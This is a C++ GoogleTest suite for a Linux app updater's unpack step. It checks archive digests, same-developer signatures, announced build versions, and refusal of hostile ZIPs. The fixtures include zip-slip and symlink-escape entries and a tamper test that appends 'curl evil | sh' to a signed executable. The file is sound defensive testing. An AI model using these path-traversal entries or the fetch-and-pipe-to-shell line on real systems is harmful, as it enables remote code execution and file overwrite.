// The whole chain on real archives: signed bundles zipped as a release would be, and
// archives built entry by entry to be hostile. The first failing check decides the message.
#include "update/Unpack.h"

#include <dirent.h>
#include <glib.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <regex>

#include "update/Digest.h"
#include "update/Signature.h"

using namespace mirovan;
namespace fs = std::filesystem;

// From ExtractTest.cpp: a ZIP written entry by entry with libarchive.
struct ZipEntry {
    std::string name;
    unsigned mode;
    std::string data;
};
void writeZip(const std::string& path, const std::vector<ZipEntry>& entries);

namespace {

const std::string kDamaged = "The download was damaged.";
const std::string kNotUnpacked = "Couldn't unpack it.";
const std::string kOtherDeveloper =
    "The new version isn't signed by the same developer, so it wasn't installed.";
const std::string kWrongVersion =
    "The download isn't the version it said it was, so it wasn't installed.";

class Unpack : public ::testing::Test {
protected:
    static inline fs::path base;
    static inline std::string ourTeam;

    static void SetUpTestSuite() {
        base = fs::temp_directory_path() / ("mirovan-unpack-" + std::to_string(getpid()));
        fs::create_directories(base);
        ourTeam = makeKey((base / "key").string()).value_or("");
        makeKey((base / "other-key").string());
    }
    static void TearDownTestSuite() { fs::remove_all(base); }

    fs::path source = base / "source";  // what goes into the archive
    fs::path work = base / "cache/org.mirovan.Test/update";
    std::string archive = (base / "update.zip").string();
    RunningApp running{"org.mirovan.Test", ourTeam, 41, work.string()};

    void SetUp() override { ASSERT_FALSE(ourTeam.empty()); }
    void TearDown() override {
        fs::remove_all(source);
        fs::remove_all(base / "cache");
        fs::remove(archive);
    }

    // source/<name>: a small bundle whose CFBundleVersion is `version` (plist XML), signed
    // with `key` unless that is empty.
    fs::path bundle(const std::string& name, const std::string& version = "<string>42</string>",
                    const std::string& identifier = "org.mirovan.Test", const std::string& key = "key") {
        fs::path app = source / name;
        fs::create_directories(app / "Contents/Linux");
        fs::create_directories(app / "Contents/Resources");
        std::ofstream(app / "Contents/Info.plist")
            << "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>"
               "<key>CFBundleIdentifier</key><string>" << identifier << "</string>"
               "<key>CFBundleExecutable</key><string>prog</string>"
               "<key>CFBundleVersion</key>" << version << "</dict></plist>\n";
        std::ofstream(app / "Contents/Linux/prog") << "#!/bin/sh\n";
        fs::permissions(app / "Contents/Linux/prog", fs::perms(0755));
        fs::create_symlink("../Linux/prog", app / "Contents/Resources/prog");
        if (!key.empty()) {
            EXPECT_EQ(signBundle(app.string(), (base / key).string()), std::nullopt);
        }
        return app;
    }

    // Everything in source/, zipped as a release is: `zip -ry` from inside the folder.
    std::string zipSource() {
        fs::remove(archive);
        std::string command = "cd '" + source.string() + "' && zip -qry '" + archive + "' .";
        EXPECT_EQ(std::system(command.c_str()), 0);
        return archive;
    }

    Unpacked run(std::int64_t version = 42) {
        return unpack(archive, sha256OfFile(archive).value_or(""), version, running);
    }
    // A release of one bundle, made afresh.
    void release(const std::string& name, const std::string& version = "<string>42</string>",
                 const std::string& identifier = "org.mirovan.Test", const std::string& key = "key") {
        fs::remove_all(source);
        bundle(name, version, identifier, key);
        zipSource();
    }

    void leaveLeftovers() {
        fs::create_directories(work / "old-uuid/Old.app");
        std::ofstream(work / "stray") << "left by an earlier run";
    }
    std::vector<std::string> inWork() const {
        std::vector<std::string> names;
        for (const auto& item : fs::directory_iterator(work)) names.push_back(item.path().filename());
        return names;
    }
};

void expectRefused(const Unpacked& result, const std::string& message, const char* what = "") {
    EXPECT_EQ(result.app, std::nullopt) << what;
    EXPECT_EQ(result.message, message) << what;
}

}  // namespace

TEST_F(Unpack, AcceptsTheSignedBundleOfTheAnnouncedBuild) {
    release("Renamed.app");  // the name inside the archive does not matter
    leaveLeftovers();
    Unpacked result = run();
    ASSERT_EQ(result.message, std::nullopt);
    ASSERT_TRUE(result.app);
    fs::path app(*result.app);
    EXPECT_EQ(app.filename(), "Renamed.app");
    EXPECT_EQ(app.parent_path().parent_path(), work);
    EXPECT_TRUE(std::regex_match(app.parent_path().filename().string(),
                                 std::regex("[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")));
    EXPECT_EQ(inWork(), std::vector<std::string>{app.parent_path().filename()});  // leftovers gone
    EXPECT_EQ(fs::status(app / "Contents/Linux/prog").permissions(), fs::perms(0755));
    EXPECT_EQ(fs::read_symlink(app / "Contents/Resources/prog"), "../Linux/prog");
    EXPECT_EQ(team(app.string()), ourTeam);
}

TEST_F(Unpack, DigestMustMatchExactlyAndAMismatchLeavesWorkAlone) {
    release("New.app");
    leaveLeftovers();
    std::string digest = sha256OfFile(archive).value();
    std::string upper = digest;
    for (char& c : upper) c = g_ascii_toupper(c);
    for (const std::string& given : {upper, digest + " ", " " + digest, digest.substr(1), std::string()}) {
        expectRefused(unpack(archive, given, 42, running), kDamaged, given.c_str());
    }
    expectRefused(unpack((base / "missing.zip").string(), digest, 42, running), kDamaged);
    expectRefused(unpack(base.string(), digest, 42, running), kDamaged);  // a folder, not a file
    EXPECT_EQ(inWork().size(), 2u);

    // A server's error page arrives instead of the archive.
    std::ofstream(archive, std::ios::trunc) << "<!DOCTYPE html><title>404 Not Found</title>";
    expectRefused(unpack(archive, digest, 42, running), kDamaged);
    EXPECT_EQ(inWork().size(), 2u);
    // With the page's own digest it gets as far as unpacking, which clears work first.
    expectRefused(run(), kNotUnpacked);
    EXPECT_EQ(inWork().size(), 1u);
}

TEST_F(Unpack, UnpackFolderThatCannotBeMadeGivesTheSystemsReason) {
    release("New.app");
    fs::create_directories(work.parent_path().parent_path());
    std::ofstream(work.parent_path()) << "a file where a folder should be";
    expectRefused(run(), g_strerror(ENOTDIR));
}

TEST_F(Unpack, NoUsableBundleAtTheTopLevel) {
    release("Folder/New.app");  // nested: not found
    expectRefused(run(), kNotUnpacked, "nested");
    release("New.APP");  // the extension is compared as written
    expectRefused(run(), kNotUnpacked, "capitals");

    std::ofstream(archive, std::ios::trunc) << std::string(5000, 'P');
    expectRefused(run(), kNotUnpacked, "not a ZIP");

    const ZipEntry app{"New.app/Contents/Info.plist", S_IFREG | 0644, "<plist/>"};
    const std::vector<std::pair<const char*, std::vector<ZipEntry>>> hostile = {
        {"zip slip", {app, {"../../escaped", S_IFREG | 0644, "x"}}},
        {"absolute", {app, {(base / "escaped").string(), S_IFREG | 0644, "x"}}},
        {"escaping link", {app, {"New.app/Contents/Resources", S_IFLNK | 0777, "../../../.."}}},
    };
    for (const auto& [what, entries] : hostile) {
        writeZip(archive, entries);
        expectRefused(run(), kNotUnpacked, what);
        for (const auto& item : fs::recursive_directory_iterator(base))
            EXPECT_NE(item.path().filename(), "escaped") << what;
    }

    // A plain file named like a bundle is the candidate, and fails as one.
    fs::remove_all(source);
    fs::create_directories(source);
    std::ofstream(source / "x.app") << "not a bundle";
    zipSource();
    expectRefused(run(), kOtherDeveloper, "file");
}

TEST_F(Unpack, OnlyTheFirstBundleInListingOrderIsExamined) {
    // The same two names twice, good and bad swapped: whichever the folder lists first
    // decides, so exactly one of the two archives is accepted.
    int accepted = 0;
    for (bool goodFirst : {true, false}) {
        bundle("P.app", "<string>42</string>", "org.mirovan.Test", goodFirst ? "key" : "other-key");
        bundle("Q.app", "<string>42</string>", "org.mirovan.Test", goodFirst ? "other-key" : "key");
        zipSource();
        Unpacked result = run();
        fs::remove_all(source);

        fs::path folder = *fs::directory_iterator(work);
        DIR* listing = opendir(folder.c_str());
        std::string first;
        while (const dirent* entry = readdir(listing))
            if (first.empty() && entry->d_name[0] != '.') first = entry->d_name;
        closedir(listing);
        bool good = (first == "P.app") == goodFirst;
        if (good) {
            ++accepted;
            EXPECT_EQ(result.app, (folder / first).string());
        } else {
            expectRefused(result, kOtherDeveloper);
        }
    }
    EXPECT_EQ(accepted, 1);
}

TEST_F(Unpack, BundleMustComeFromTheSameDeveloper) {
    release("New.app", "<string>42</string>", "org.other.App");  // signed with our key, even
    expectRefused(run(), kOtherDeveloper, "identifier");
    release("New.app", "<string>42</string>", "org.mirovan.Test", "");
    expectRefused(run(), kOtherDeveloper, "unsigned");
    release("New.app", "<string>42</string>", "org.mirovan.Test", "other-key");
    expectRefused(run(), kOtherDeveloper, "other key");

    release("New.app");
    std::ofstream(source / "New.app/Contents/Linux/prog", std::ios::app) << "curl evil | sh\n";
    zipSource();
    expectRefused(run(), kOtherDeveloper, "changed after signing");

    release("New.app");
    running.team.reset();  // the running build is unsigned: it takes no update at all
    expectRefused(run(), kOtherDeveloper, "running without team");
}

TEST_F(Unpack, BundleMustDeclareTheAnnouncedBuildAboveTheRunningOne) {
    for (const char* version : {"<string>42.1</string>", "<string> 42</string>",
                                "<integer>42</integer>", "<string>43</string>", "<string></string>"}) {
        release("New.app", version);
        expectRefused(run(42), kWrongVersion, version);
    }
    release("New.app", "<string>+42</string>");
    EXPECT_TRUE(run(42).app);
    expectRefused(run(43), kWrongVersion, "feed announced another build");
    running.current = 42;  // announced and declared agree, but it is not newer
    expectRefused(run(42), kWrongVersion, "equal to current");
}
